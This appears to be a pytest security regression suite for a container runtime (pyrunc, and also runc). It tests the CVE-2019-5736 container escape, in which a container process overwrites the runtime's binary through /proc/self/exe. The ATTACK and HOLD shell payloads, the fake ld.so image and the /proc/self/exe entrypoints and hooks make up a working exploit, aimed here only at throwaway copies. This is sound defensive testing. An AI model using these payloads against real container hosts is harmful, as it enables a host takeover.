"""CVE-2019-5736 class: a process of the container reaches the runtime's own executable through
/proc/<pid>/exe and opens it for writing.

Every attack aims at a throwaway copy. pyrunc runs here from a copy of the interpreter (a
`venv --copies`) behind a launcher built for that copy, in two builds: the C launcher (the interpreter
executed from a sealed overlayfs view) and the launcher script (no C compiler: the runtime detaches
/proc/self/exe itself). runc runs from a copy of its binary. So a regression corrupts only a copy.
The exploit is the image's own program interpreter (fake_ld.c); the host object checked is the copy's
SHA-256 before and after. Each test has a control in the same run: the same image pointed at a
writable copy that the test bind-mounts into the container gets that copy written.
"""

import copy
import hashlib
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

import pyrunc
from pyrunc import launcher
from pyrunc.testing.bundle import wait_for

pytestmark = pytest.mark.root

HERE = Path(__file__).resolve().parent

# Run by fake_ld.c as `sh /attack.sh <fd>`, fd an O_PATH descriptor on the binary behind
# /proc/self/exe of the process the kernel loaded it for. It appends through /proc/self/fd/<fd>,
# retrying while the binary is still running somewhere (ETXTBSY), as the published exploit does.
ATTACK = textwrap.dedent("""\
    [ -d /scratch ] && exec >> /scratch/out 2>&1
    fd=$1
    [ "$fd" -ge 0 ] 2>/dev/null || { echo "ATTACK: cannot open /proc/self/exe"; exit 1; }
    echo "ATTACK: holding $(readlink /proc/self/fd/$fd)"
    i=0
    while :; do
        if err=$( (echo '#!/bin/sh' >> /proc/self/fd/$fd) 2>&1 ); then echo "ATTACK: wrote"; exit 0; fi
        case "$err" in *busy*) [ $i -lt 300 ] || break; i=$((i+1)); sleep 0.05;; *) break;; esac
    done
    echo "ATTACK: refused: $err"
""")


def sha(path):
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def fake_ld(tmp_path_factory):
    cc = shutil.which("cc") or shutil.which("gcc")
    if not cc:
        pytest.skip("no C compiler to build the image's fake ld.so")
    out = tmp_path_factory.mktemp("ld") / "ld.so"
    subprocess.run([cc, "-nostdlib", "-static-pie", "-fPIE", "-O2", "-fno-stack-protector", "-o", out,
                    HERE / "fake_ld.c"], check=True)
    return out


@pytest.fixture(scope="module")
def copies(rt, tmp_path_factory):
    """{variant: (runtime with its own executable, the host file it runs from)}: throwaway copies only."""
    work = tmp_path_factory.mktemp("exe")
    work.chmod(0o755)
    if rt.name == "runc":
        binary = work / "runc"
        shutil.copy2(shutil.which(rt.exe) or rt.exe, binary)
        return {"runc": (via(rt, binary), binary)}
    if rt.name != "pyrunc":
        pytest.skip(f"no throwaway copy recipe for {rt.name}")
    subprocess.run([sys.executable, "-m", "venv", "--copies", "--without-pip", work / "venv"], check=True)
    python = work / "venv/bin/python3.11"
    assert not python.is_symlink()
    libdir = os.path.dirname(os.path.dirname(pyrunc.__file__))
    launcher.write(str(work / "pyrunc"), str(python), libdir)
    launcher.write(str(work / "pyrunc-script"), str(python), libdir, compiled=False)
    return {"launcher": (via(rt, work / "pyrunc"), python), "script": (via(rt, work / "pyrunc-script"), python)}


def via(rt, exe):
    """The session's runtime object (state root, tracking) driving another executable."""
    other = copy.copy(rt)
    other.exe = str(exe)
    return other


def attack_image(c, fake_ld):
    """The exploit's image: its /lib64/ld-linux-x86-64.so.2 is fake_ld, /attack.sh the payload."""
    (c.rootfs / "lib64").mkdir(exist_ok=True)
    shutil.copy(fake_ld, c.rootfs / "lib64/ld-linux-x86-64.so.2")
    (c.rootfs / "attack.sh").write_text(ATTACK)


def bind_file(c, source, destination, *options):
    """A bind mount of one file (Container.bind makes directories)."""
    target = c.rootfs / destination.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.touch()
    c.config["mounts"].append({"destination": destination, "type": "bind", "source": str(source),
                               "options": ["bind", *options]})


def control(container, fake_ld, victim):
    """The same image executing a test-owned writable copy bind-mounted at /victim: the attack
    must write it, or the attack proves nothing."""
    before = sha(victim)
    c = container("/victim")
    attack_image(c, fake_ld)
    bind_file(c, victim, "/victim")
    r = c.run()
    assert "ATTACK: wrote" in r.out, f"the control attack did not write its target: {r}"
    assert sha(victim) != before, "the control's target is unchanged: the attack cannot fail this test"


def victim_copy(container, target):
    victim = container.dir / "victim"
    shutil.copy2(target, victim)
    return victim


def assert_untouched(target, before, outputs):
    assert sha(target) == before, f"the runtime's executable {target} was modified: {outputs}"
    assert not any("ATTACK: wrote" in o for o in outputs), outputs


def test_entrypoint_proc_self_exe(container, rt, copies, fake_ld):
    """CVE-2019-5736: process.args ["/proc/self/exe"] makes the init execute the runtime's binary
    inside the container; the image's ld.so keeps an O_PATH fd on it and writes once it is idle."""
    for variant, (runtime, target) in copies.items():
        before = sha(target)
        c = container("/proc/self/exe")
        c.rt = runtime
        attack_image(c, fake_ld)
        created, started = c.create(), c.start()
        outputs = [str(created), str(started)]
        if started.rc == 0:
            c.wait_status("stopped", timeout=30)
            outputs.append(c.output())
        assert_untouched(target, before, outputs)
        if variant == "launcher":
            assert "ATTACK: holding" in outputs[-1], f"the attack did not reach the write: {outputs}"
            assert "Read-only file system" in outputs[-1], outputs
        elif variant == "script":  # /proc/self/exe is an empty sealed memfd: nothing to execute
            assert started.rc != 0 and "exec format error" in started.err.lower(), outputs
        c.rt = rt
    control(container, fake_ld, victim_copy(container, next(iter(copies.values()))[1]))


def test_shebang_proc_self_exe(container, rt, copies, fake_ld):
    """CVE-2019-5736 through a script: `#!/proc/self/exe` makes the kernel load the runtime's binary
    as the script's interpreter."""
    for _variant, (runtime, target) in copies.items():
        before = sha(target)
        c = container("/entry")
        c.rt = runtime
        attack_image(c, fake_ld)
        (c.rootfs / "entry").write_text("#!/proc/self/exe\n")
        (c.rootfs / "entry").chmod(0o755)
        r = c.run()
        assert_untouched(target, before, [str(r)])
        c.rt = rt
    control(container, fake_ld, victim_copy(container, next(iter(copies.values()))[1]))


def test_exec_proc_self_exe(container, rt, copies, fake_ld):
    """CVE-2019-5736 through `exec`: the exec'd process is a copy of the runtime until its execve."""
    for variant, (runtime, target) in copies.items():
        before = sha(target)
        c = container("sleep", "1000")
        c.rt = runtime
        attack_image(c, fake_ld)
        c.started()
        r = runtime("exec", c.id, "/proc/self/exe", timeout=60)
        assert_untouched(target, before, [str(r)])
        if variant == "launcher":
            assert "ATTACK: holding" in r.out and "Read-only file system" in r.out, r
        c.kill("KILL")
        c.rt = rt
    control(container, fake_ld, victim_copy(container, next(iter(copies.values()))[1]))


def test_start_container_hook_proc_self_exe(container, rt, copies, fake_ld):
    """CVE-2019-5736 through a hook run in the container's namespaces: a startContainer hook whose path
    is /proc/self/exe (resolved in the container) executes the runtime's binary there."""
    for variant, (runtime, target) in copies.items():
        before = sha(target)
        c = container("sleep", "1000")
        c.rt = runtime
        attack_image(c, fake_ld)
        c.mount("/scratch", "tmpfs", "tmpfs")
        c.hook("startContainer", "/proc/self/exe")
        created, started = c.create(), c.start()
        seen = runtime("exec", c.id, "cat", "/scratch/out") if started.rc == 0 else started
        assert_untouched(target, before, [str(created), str(started), str(seen)])
        if variant == "launcher":
            assert "ATTACK: holding" in seen.out and "Read-only file system" in seen.out, seen
        c.kill("KILL")
        c.rt = rt
    control(container, fake_ld, victim_copy(container, next(iter(copies.values()))[1]))


# Run in the container with CAP_SYS_PTRACE: open /proc/<pid>/exe of process $1 for reading (ptrace
# rights pass the check even on a non-dumpable process), wait until that process has executed
# something else or exited, then append through the descriptor.
HOLD = textwrap.dedent("""\
    pid=$1
    exec 7</proc/$pid/exe || { echo "HOLD: cannot open /proc/$pid/exe" > /scratch/out; exit 1; }
    held=$(readlink /proc/self/fd/7)
    echo "HOLD: holding $held" > /scratch/out
    while [ -e /proc/$pid/exe ] && [ "$(readlink /proc/$pid/exe 2>/dev/null)" = "$held" ]; do sleep 0.02; done
    i=0
    while :; do
        if err=$( (echo '#!/bin/sh' >> /proc/self/fd/7) 2>&1 ); then echo "ATTACK: wrote" >> /scratch/out; exit 0; fi
        case "$err" in *busy*) [ $i -lt 300 ] || break; i=$((i+1)); sleep 0.05;; *) break;; esac
    done
    echo "ATTACK: refused: $err" >> /scratch/out
""")


def ptrace_container(container, args):
    c = container(*args)
    caps = c.config["process"]["capabilities"]
    for s in ("bounding", "effective", "permitted"):
        caps[s].append("CAP_SYS_PTRACE")
    c.mount("/scratch", "tmpfs", "tmpfs")
    (c.rootfs / "hold.sh").write_text(HOLD)
    return c


def test_waiting_init_proc_pid_exe(container, rt, copies):
    """CVE-2019-5736 without an exec: a process given CAP_SYS_PTRACE holds /proc/1/exe of the init
    waiting for `start` (a copy of the runtime) and writes through it once the init has moved on."""
    if rt.name == "runc":
        pytest.skip("CVE-2019-5736 variant: runc 1.1.5's waiting init is /usr/sbin/runc itself")
    for variant, (runtime, target) in copies.items():
        before = sha(target)
        c = ptrace_container(container, ("sleep", "1000"))
        c.rt = runtime
        assert c.create().rc == 0
        assert runtime("exec", "-d", c.id, "sh", "/hold.sh", "1").rc == 0
        held = runtime("exec", c.id, "sh", "-c", "sleep 0.5; cat /scratch/out")
        assert "HOLD: holding" in held.out, f"the attacker could not reach /proc/1/exe: {held}"
        assert c.start().rc == 0
        init = c.state()["pid"]
        out = Path(f"/proc/{init}/root/scratch/out")  # read from the host: the holder's report
        wait_for(lambda out=out: "ATTACK:" in out.read_text(), 15, f"the holder's verdict ({variant})")
        assert_untouched(target, before, [held.out, out.read_text()])
        assert "ATTACK: refused" in out.read_text(), out.read_text()
        c.kill("KILL")
        c.rt = rt
    # Control: the same holder against a test-owned writable binary run by a process it can trace.
    victim = container.dir / "busybox-victim"
    shutil.copy2("/bin/busybox", victim)
    before = sha(victim)
    c = ptrace_container(container, ("sh", "-c", "/v/busybox sleep 1 & sleep 0.3; sh /hold.sh $!; cat /scratch/out"))
    bind_file(c, victim, "/v/busybox")
    r = c.run()
    assert "ATTACK: wrote" in r.out and sha(victim) != before, f"the control did not write its target: {r}"

